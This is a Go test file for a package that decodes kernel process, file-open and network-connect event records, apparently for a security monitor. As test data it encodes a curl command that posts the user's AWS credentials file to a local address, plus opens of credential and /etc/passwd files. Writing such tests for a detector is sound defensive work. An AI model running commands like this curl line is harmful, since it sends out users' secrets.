package kevent

import (
	"encoding/binary"
	"errors"
	"net/netip"
	"testing"

	"github.com/stretchr/testify/require"
)

func hdr(kind Kind, flags uint16, pid uint32) []byte {
	b := make([]byte, hdrSize)
	b[0] = byte(kind)
	b[1] = Version
	binary.LittleEndian.PutUint16(b[2:], flags)
	binary.LittleEndian.PutUint32(b[4:], pid)
	binary.LittleEndian.PutUint32(b[8:], pid+1)
	binary.LittleEndian.PutUint64(b[16:], 1000)
	binary.LittleEndian.PutUint64(b[24:], 500)
	return b
}

func execRecord(exe, filename string, args []byte, cwd string) []byte {
	b := hdr(KindExec, FlagExecMatched, 42)
	fixed := make([]byte, 32)
	binary.LittleEndian.PutUint32(fixed[0:], 1)
	binary.LittleEndian.PutUint32(fixed[4:], 1000)
	binary.LittleEndian.PutUint32(fixed[8:], 0)
	binary.LittleEndian.PutUint64(fixed[16:], 7)
	binary.LittleEndian.PutUint16(fixed[24:], uint16(len(exe)))
	binary.LittleEndian.PutUint16(fixed[26:], uint16(len(filename)))
	binary.LittleEndian.PutUint16(fixed[28:], uint16(len(args)))
	binary.LittleEndian.PutUint16(fixed[30:], uint16(len(cwd)))
	b = append(b, fixed...)
	b = append(b, exe...)
	b = append(b, filename...)
	b = append(b, args...)
	return append(b, cwd...)
}

func openRecord(path string, ret int32) []byte {
	b := hdr(KindOpen, FlagPathRaw, 42)
	fixed := make([]byte, 16)
	binary.LittleEndian.PutUint32(fixed[0:], uint32(ret))
	binary.LittleEndian.PutUint32(fixed[4:], 0o101)
	binary.LittleEndian.PutUint16(fixed[12:], uint16(len(path)))
	binary.LittleEndian.PutUint16(fixed[14:], SyscallOpenat)
	return append(append(b, fixed...), path...)
}

func connectRecord(family uint16, addr []byte, port uint16) []byte {
	b := hdr(KindConnect, 0, 42)
	fixed := make([]byte, 32)
	binary.LittleEndian.PutUint32(fixed[0:], uint32(0xffffff8d)) // -115 EINPROGRESS
	binary.LittleEndian.PutUint16(fixed[4:], family)
	binary.LittleEndian.PutUint16(fixed[6:], port)
	copy(fixed[8:24], addr)
	binary.LittleEndian.PutUint16(fixed[24:], 1)
	return append(b, fixed...)
}

func TestDecodeExec(t *testing.T) {
	rec := execRecord("/usr/bin/curl", "curl", []byte("curl\x00-d\x00@x\x00"), "/home/u/proj")
	ev, err := Decode(rec)
	require.NoError(t, err)
	e := ev.(*Exec)
	require.Equal(t, uint32(42), e.PID)
	require.Equal(t, uint16(FlagExecMatched), e.Flags)
	require.Equal(t, uint32(1), e.PPID)
	require.Equal(t, uint32(1000), e.UID)
	require.Equal(t, uint64(7), e.PStart)
	require.Equal(t, "/usr/bin/curl", e.Exe)
	require.Equal(t, "curl", e.Filename)
	require.Equal(t, []string{"curl", "-d", "@x"}, e.Args)
	require.Equal(t, "/home/u/proj", e.Cwd)
}

func TestDecodeOpenConnectExitFork(t *testing.T) {
	ev, err := Decode(openRecord("/home/u/.aws/credentials", 3))
	require.NoError(t, err)
	o := ev.(*Open)
	require.Equal(t, "/home/u/.aws/credentials", o.Path)
	require.Equal(t, int32(3), o.Ret)
	require.Equal(t, uint32(0o101), o.OpenFlags)
	require.Equal(t, uint16(FlagPathRaw), o.Flags)

	mapped := netip.MustParseAddr("::ffff:10.1.2.3").As16()
	for _, tc := range []struct {
		family uint16
		addr   []byte
		want   string
	}{
		{2, []byte{127, 0, 0, 1}, "127.0.0.1"},
		{10, mapped[:], "10.1.2.3"},
		{10, netip.MustParseAddr("2001:db8::1").AsSlice(), "2001:db8::1"},
	} {
		ev, err := Decode(connectRecord(tc.family, tc.addr, 8443))
		require.NoError(t, err)
		c := ev.(*Connect)
		require.Equal(t, tc.want, c.Addr.String())
		require.Equal(t, uint16(8443), c.Port)
		require.Equal(t, int32(-115), c.Ret)
	}

	exit := append(hdr(KindExit, 0, 9), 0, 7, 0, 0, 0, 0, 0, 0) // status 7<<8
	ev, err = Decode(exit)
	require.NoError(t, err)
	code, sig := ev.(*Exit).Code()
	require.Equal(t, 7, code)
	require.Zero(t, sig)
	killed := append(hdr(KindExit, 0, 9), 9, 0, 0, 0, 0, 0, 0, 0) // SIGKILL
	ev, err = Decode(killed)
	require.NoError(t, err)
	code, sig = ev.(*Exit).Code()
	require.Equal(t, 137, code)
	require.Equal(t, 9, sig)

	fork := append(hdr(KindFork, 0, 10), make([]byte, 16)...)
	binary.LittleEndian.PutUint32(fork[hdrSize:], 9)
	ev, err = Decode(fork)
	require.NoError(t, err)
	require.Equal(t, uint32(9), ev.(*Fork).PPID)
}

func TestDecodeRejectsBadRecords(t *testing.T) {
	good := execRecord("/bin/sh", "sh", []byte("sh\x00"), "/")
	badLen := append([]byte(nil), good...)
	binary.LittleEndian.PutUint16(badLen[hdrSize+28:], 60000)
	badVersion := append([]byte(nil), good...)
	badVersion[1] = 99
	for name, tc := range map[string]struct {
		rec  []byte
		want error
	}{
		"empty":            {nil, ErrShort},
		"header only exec": {hdr(KindExec, 0, 1), ErrShort},
		"exec lengths lie": {badLen, ErrCorrupt},
		"version":          {badVersion, ErrCorrupt},
		"unknown kind":     {hdr(Kind(77), 0, 1), ErrCorrupt},
		"short connect":    {connectRecord(2, []byte{1, 2, 3, 4}, 1)[:40], ErrShort},
		"connect family":   {connectRecord(1, nil, 1), ErrCorrupt},
		"open path lies":   {openRecord("/x", 0)[:openFixed+1], ErrCorrupt},
		"short exit":       {hdr(KindExit, 0, 1), ErrShort},
		"short fork":       {hdr(KindFork, 0, 1), ErrShort},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Decode(tc.rec)
			require.Error(t, err)
			require.True(t, errors.Is(err, tc.want), "got %v, want %v", err, tc.want)
		})
	}
}

func TestSplitArgs(t *testing.T) {
	require.Nil(t, SplitArgs(nil))
	require.Nil(t, SplitArgs([]byte{0}))
	require.Equal(t, []string{"a", "", "b"}, SplitArgs([]byte("a\x00\x00b\x00")))
	require.Equal(t, []string{"a", "b"}, SplitArgs([]byte("a\x00b"))) // truncated: no final NUL
	require.Equal(t, []string{"\xff\xfe"}, SplitArgs([]byte("\xff\xfe\x00")))
}

func FuzzDecode(f *testing.F) {
	f.Add(execRecord("/bin/sh", "sh", []byte("sh\x00-c\x00x\x00"), "/tmp"))
	f.Add(openRecord("/etc/passwd", -2))
	f.Add(connectRecord(10, make([]byte, 16), 53))
	f.Add(append(hdr(KindExit, 0, 1), make([]byte, 8)...))
	f.Add(append(hdr(KindFork, 0, 1), make([]byte, 16)...))
	f.Fuzz(func(t *testing.T, b []byte) {
		ev, err := Decode(b)
		if err != nil {
			if ev != nil {
				t.Fatalf("event with error: %v", err)
			}
			return
		}
		if ev.Hdr().Version != Version {
			t.Fatalf("accepted version %d", ev.Hdr().Version)
		}
	})
}

func BenchmarkDecodeExec(b *testing.B) {
	rec := execRecord("/usr/bin/curl", "/usr/bin/curl", []byte("curl\x00--data-binary\x00@/home/u/.aws/credentials\x00http://127.0.0.1:9999/\x00"), "/home/u/proj")
	b.ReportAllocs()
	b.SetBytes(int64(len(rec)))
	for b.Loop() {
		if _, err := Decode(rec); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDecodeOpen(b *testing.B) {
	rec := openRecord("/home/u/proj/src/components/really/deep/file.tsx", 3)
	b.ReportAllocs()
	b.SetBytes(int64(len(rec)))
	for b.Loop() {
		if _, err := Decode(rec); err != nil {
			b.Fatal(err)
		}
	}
}
